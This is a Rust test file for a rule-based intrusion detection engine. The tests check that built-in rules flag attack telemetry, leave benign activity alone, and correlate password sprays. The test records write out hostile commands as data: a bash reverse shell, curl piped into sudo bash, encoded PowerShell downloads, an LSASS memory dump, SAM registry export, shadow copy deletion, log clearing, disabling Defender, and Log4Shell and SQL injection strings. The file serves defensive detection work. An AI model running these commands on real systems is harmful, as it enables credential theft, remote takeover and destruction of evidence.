//! The rules that are built in: what each finds, and what looks like it and is innocent.

use super::{Record, bind, text};
use crate::{
    CorrelationLimits, Correlator, Known, Matcher, Options, Origin, PIPELINES, Pipeline, Program, Value, builtin,
};

fn program() -> Program {
    let (program, problems) = Program::compile(&builtin(), &Options::default());
    let told: Vec<String> = problems.iter().map(ToString::to_string).collect();
    assert!(told.is_empty(), "{}", told.join("\n"));
    program
}

#[test]
fn every_rule_is_read_and_says_what_it_is_about() {
    let program = program();
    let size = program.size();
    assert!(size.rules + size.correlations >= 50, "{size:?}");
    for rule in program.rules() {
        let meta = &rule.meta;
        assert!(meta.id.is_some() && meta.tactics().next().is_some(), "{}", meta.title);
        assert!(
            !meta.falsepositives.is_empty() && meta.author.as_deref() == Some("Watchfire"),
            "{}",
            meta.title
        );
    }
}

/// Titles of the rules that match a record of a product and category or service.
fn titles(program: &Program, product: &str, kind: &str, record: Record<'_>) -> Vec<String> {
    let among = || Known::Among(vec![kind.to_owned()]);
    let origin = Origin {
        product: if product.is_empty() {
            Known::Unknown
        } else {
            Known::is(product)
        },
        category: among(),
        service: among(),
    };
    let mut matcher = Matcher::new(program);
    let route = matcher.route(&origin);
    let rules = matcher.matches(route, &bind(program, record)).to_vec();
    rules
        .iter()
        .filter_map(|rule| program.rule(*rule))
        .map(|rule| rule.meta.title.clone())
        .collect()
}

#[test]
#[expect(clippy::too_many_lines, reason = "a list of examples")]
fn rules_find_what_they_are_for() {
    let program = program();
    let check = |product: &str, kind: &str, record: Record<'_>, title: &str| {
        let found = titles(&program, product, kind, record);
        assert!(
            found.iter().any(|found| found == title),
            "{title}: {found:?} for {record:?}"
        );
    };
    let run = |image: &'static str, command: &'static str, title: &str| {
        check(
            "windows",
            "process_creation",
            &[text("Image", image), text("CommandLine", command)],
            title,
        );
    };
    run(
        r"C:\Windows\System32\net.exe",
        "net user bob Passw0rd /add",
        "User Made By Command Line",
    );
    run(
        r"C:\x.exe",
        r"rundll32 C:\windows\system32\comsvcs.dll, MiniDump 624 x full",
        "LSASS Dumped By A Windows Library",
    );
    run(
        r"C:\Windows\System32\reg.exe",
        r"reg save HKLM\SAM C:\x",
        "Copy Of The Account Database",
    );
    run(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell -nop -enc aQBlAHgAIAAoAG4AZQB3AC0AbwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA",
        "Encoded PowerShell",
    );
    run(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell /enc aQBlAHgAIAAoAG4AZQB3AC0AbwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA",
        "Encoded PowerShell That Downloads",
    );
    run(
        r"C:\Windows\System32\certutil.exe",
        "certutil /urlcache -f http://x/y y",
        "Download By certutil",
    );
    run(
        r"C:\Windows\System32\bitsadmin.exe",
        "bitsadmin /transfer j http://x/y c:\\y",
        "Download By bitsadmin",
    );
    run(
        r"C:\Windows\System32\mshta.exe",
        "mshta http://x/y.hta",
        "Script Run From The Web",
    );
    run(
        r"C:\Windows\System32\vssadmin.exe",
        "vssadmin delete shadows /all /quiet",
        "Shadow Copies Deleted",
    );
    run(
        r"C:\Windows\System32\wevtutil.exe",
        "wevtutil cl Security",
        "Event Log Cleared By Command",
    );
    run(
        r"C:\x\powershell.exe",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "Defender Switched Off",
    );
    run(
        r"C:\Windows\System32\netsh.exe",
        "netsh advfirewall set allprofiles state off",
        "Firewall Switched Off",
    );
    run(
        r"C:\Windows\System32\schtasks.exe",
        r"schtasks /create /tn x /tr C:\Users\Public\x.exe /sc minute",
        "Scheduled Task By Command Line",
    );
    let parent = |parent, image| [text("ParentImage", parent), text("Image", image)];
    check(
        "windows",
        "process_creation",
        &parent(r"C:\o\WINWORD.EXE", r"C:\w\cmd.exe"),
        "Shell Started By A Document",
    );
    check(
        "windows",
        "process_creation",
        &parent(r"C:\i\w3wp.exe", r"C:\w\cmd.exe"),
        "Shell Started By A Web Server",
    );
    let access: Record<'_> = &[
        text("TargetImage", r"C:\Windows\system32\lsass.exe"),
        text("SourceImage", r"C:\Users\bob\x.exe"),
        text("GrantedAccess", "0x1410"),
    ];
    check(
        "windows",
        "process_access",
        access,
        "Memory Of LSASS Opened For Reading",
    );
    let service: Record<'_> = &[
        text("Provider_Name", "Service Control Manager"),
        ("EventID", Value::Integer(7045)),
        text("ServiceName", "PSEXESVC"),
        text("ImagePath", r"%COMSPEC% /c echo x > \\.\pipe\y"),
    ];
    check(
        "windows",
        "system",
        service,
        "Service With A Shell Or A Strange Path Installed",
    );
    check("windows", "system", service, "Run By PsExec");
    let cleared: Record<'_> = &[text("Channel", "Security"), ("EventID", Value::Integer(1102))];
    check("windows", "security", cleared, "Event Log Cleared");
    let member: Record<'_> = &[("EventID", Value::Integer(4732)), text("TargetSid", "S-1-5-32-544")];
    check(
        "windows",
        "security",
        member,
        "Member Added To A Group Of Administrators",
    );
    let library: Record<'_> = &[
        text("ImageLoaded", r"C:\Users\bob\version.dll"),
        text("Signed", "false"),
    ];
    check(
        "windows",
        "image_load",
        library,
        "Library Loaded From Beside A Trusted Program",
    );
    let on_a_disc: Record<'_> = &[text("ImageLoaded", r"E:\version.dll"), text("Signed", "false")];
    check(
        "windows",
        "image_load",
        on_a_disc,
        "Library Loaded From Beside A Trusted Program",
    );
    run(
        r"C:\Users\Public\Libraries\updater.exe",
        "updater.exe",
        "Program Run From The Public Folder",
    );
    run(
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Users\Public\x.dat,Start",
        "Library Run From A Strange Path",
    );
    let query = |query| [text("cs-uri-query", query)];
    check("", "webserver", &query("id=1 UNION SELECT 1"), "SQL In A Request");
    check("", "webserver", &query("f=../../etc/passwd"), "Path That Climbs Out");
    check(
        "",
        "webserver",
        &[text("cs-user-agent", "${jndi:ldap://x}")],
        "Log4Shell And Its Like",
    );
    check("", "webserver", &query("cmd=whoami"), "Command In A Request");
    let linux: Record<'_> = &[text("CommandLine", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")];
    check("linux", "process_creation", linux, "Reverse Shell By Command Line");
    let piped: Record<'_> = &[text("CommandLine", "curl -s https://x.example/i | sudo bash")];
    check("linux", "process_creation", piped, "Download Piped Into A Shell");
}

#[test]
fn ordinary_life_is_left_alone() {
    let program = program();
    let quiet = |product: &str, kind: &str, record: Record<'_>| {
        let found = titles(&program, product, kind, record);
        assert!(found.is_empty(), "{found:?} for {record:?}");
    };
    let run = |image: &'static str, command: &'static str| {
        quiet(
            "windows",
            "process_creation",
            &[text("Image", image), text("CommandLine", command)],
        );
    };
    run(r"C:\Windows\System32\net.exe", "net use X: \\\\server\\share");
    run(
        r"C:\x\powershell.exe",
        "powershell -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
    );
    run(
        r"C:\Windows\System32\certutil.exe",
        "certutil -hashfile C:\\x.iso SHA256",
    );
    run(r"C:\Windows\System32\vssadmin.exe", "vssadmin list shadows");
    run(
        r"C:\Windows\System32\rundll32.exe",
        "rundll32 shell32.dll,Control_RunDLL desk.cpl",
    );
    run(r"C:\Windows\System32\wevtutil.exe", "wevtutil qe Security /c:5");
    run(
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Users\a\AppData\Local\Temp\MSI1.tmp,zzzzInvokeManagedCustomActionOutOfProc SfxCA_1 2 x!y",
    );
    run(r"D:\Programs\Editor\editor.exe", "editor.exe");
    let signed: Record<'_> = &[
        text("ImageLoaded", r"D:\dbghelp.dll"),
        text("Signed", "true"),
        text("SignatureStatus", "Valid"),
    ];
    quiet("windows", "image_load", signed);
    let access: Record<'_> = &[
        text("TargetImage", r"C:\Windows\system32\lsass.exe"),
        text("SourceImage", r"C:\Windows\System32\svchost.exe"),
        text("GrantedAccess", "0x1410"),
        text("CallTrace", r"C:\Windows\SYSTEM32\ntdll.dll+9f"),
    ];
    quiet("windows", "process_access", access);
    quiet(
        "",
        "webserver",
        &[
            text("cs-uri-query", "q=the+union+selected"),
            text("cs-uri-stem", "/a/b"),
        ],
    );
    quiet(
        "linux",
        "process_creation",
        &[text("CommandLine", "curl -sO https://x.example/i.tar.gz")],
    );
}

#[test]
fn a_spray_and_the_logon_that_follows_are_told() {
    let program = program();
    let mut matcher = Matcher::new(&program);
    let route = matcher.route(&Origin::windows("Security", 4625));
    let mut correlator = Correlator::new(&program, CorrelationLimits::default());
    let mut told = Vec::new();
    for number in 0..=12_u8 {
        let user = format!("user{number}");
        let is_last = number == 12;
        let record = [
            ("EventID", Value::Integer(if is_last { 4624 } else { 4625 })),
            text("TargetUserName", &user),
            text("IpAddress", "203.0.113.7"),
            ("LogonType", Value::Integer(3)),
        ];
        let fields = bind(&program, &record);
        let rules = matcher.matches(route, &fields).to_vec();
        told.extend(correlator.feed(i64::from(number) * 10_000, &rules, &fields, u64::from(number)));
    }
    let titles: Vec<&str> = told
        .iter()
        .filter_map(|alert| program.correlations().get(alert.correlation as usize))
        .filter(|info| !info.is_silent)
        .map(|info| info.rule.meta.title.as_str())
        .collect();
    assert_eq!(
        titles,
        ["Windows Password Spray", "Windows Logon After A Password Spray"]
    );
    assert_eq!(told[0].value, 10.0);
    let fields = bind(&program, &[("EventID", Value::Integer(4625)), text("LogonType", "3")]);
    let rules = matcher.matches(route, &fields);
    assert!(
        rules.iter().all(|rule| program.rule(*rule).unwrap().is_silent),
        "each failure is told"
    );
}

#[test]
fn what_is_worth_a_look_is_told() {
    let program = program();
    let silent = program.correlations().iter().filter(|info| info.is_silent);
    for info in silent {
        assert_eq!(
            info.rule.meta.level,
            crate::Level::Informational,
            "{}",
            info.rule.meta.title
        );
    }
    for rule in program.rules().iter().filter(|rule| rule.is_silent) {
        assert_eq!(rule.meta.level, crate::Level::Informational, "{}", rule.meta.title);
    }
}

#[test]
fn a_program_on_a_disc_image_is_told_when_the_image_was_just_opened() {
    let program = program();
    let mut matcher = Matcher::new(&program);
    let mut correlator = Correlator::new(&program, CorrelationLimits::default());
    let mut told = Vec::new();
    let mut feed = |minute: i64, event: i64, record: Record<'_>| {
        let route = matcher.route(&Origin::windows("Microsoft-Windows-Sysmon/Operational", event));
        let fields = bind(&program, record);
        let rules = matcher.matches(route, &fields).to_vec();
        let alerts = correlator.feed(minute * 60_000, &rules, &fields, 0);
        told.extend(alerts.into_iter().map(|alert| (minute, alert.correlation)));
    };
    let started: Record<'_> = &[
        ("EventID", Value::Integer(1)),
        text("Computer", "PC"),
        text("Image", r"E:\Viewer.exe"),
        text("ParentImage", r"C:\Windows\explorer.exe"),
    ];
    let image: Record<'_> = &[
        ("EventID", Value::Integer(11)),
        text("Computer", "PC"),
        text(
            "TargetFilename",
            r"C:\Users\a\AppData\Roaming\Microsoft\Windows\Recent\Invoice.iso.lnk",
        ),
    ];
    feed(0, 1, started);
    feed(10, 11, image);
    feed(12, 1, started);
    feed(30, 1, started);
    let titles: Vec<(i64, &str)> = told
        .iter()
        .filter_map(|(minute, number)| {
            let info = program.correlations().get(*number as usize)?;
            Some((*minute, info.rule.meta.title.as_str()))
        })
        .collect();
    assert_eq!(titles, [(12, "Program Run From A Disc Image That Was Just Opened")]);
}

#[test]
fn pipelines_find_fields_by_the_names_of_products() {
    let program = program();
    let origin = Origin {
        product: Known::is("windows"),
        category: Known::is("process_creation"),
        ..Origin::default()
    };
    for (pipeline, name) in [
        ("windows", "NewProcessName"),
        ("ecs", "process.executable"),
        ("ocsf", "process.file.path"),
        ("sysmon", "image"),
    ] {
        let pipeline = Pipeline::builtin(pipeline).expect("it is built in");
        let names = program.names(&[&pipeline], &origin);
        assert!(names.get(name).contains(&program.field("Image")), "{name}");
        assert_eq!(names.get("Image"), [program.field("Image")]);
    }
    let proxy = Origin {
        category: Known::is("webserver"),
        ..Origin::default()
    };
    let zeek = Pipeline::builtin("zeek").expect("it is built in");
    assert!(
        program
            .names(&[&zeek], &proxy)
            .get("user_agent")
            .contains(&program.field("cs-user-agent"))
    );
    assert!(program.names(&[&zeek], &origin).get("user_agent").is_empty());
    for name in PIPELINES {
        assert!(
            Pipeline::builtin(name).is_some_and(|pipeline| !pipeline.mappings.is_empty()),
            "{name}"
        );
    }
}

#[test]
fn a_pipeline_of_ones_own_renames_fields() {
    let text = "name: mine\ntransformations:\n  - type: field_name_mapping\n    mapping:\n      Image: [exe, path]\n    rule_conditions:\n      - type: logsource\n        category: process_creation\n  - type: add_condition\n";
    let (pipeline, problems) = Pipeline::parse(&crate::Source::new("p.yml", text));
    assert_eq!(problems.len(), 1, "{problems:?}");
    let program = program();
    let origin = Origin {
        category: Known::is("process_creation"),
        ..Origin::default()
    };
    assert!(
        program
            .names(&[&pipeline], &origin)
            .get("exe")
            .contains(&program.field("Image"))
    );
    let (_, problems) = Pipeline::parse(&crate::Source::new("p.yml", "a: b"));
    assert_eq!(problems.len(), 1);
}
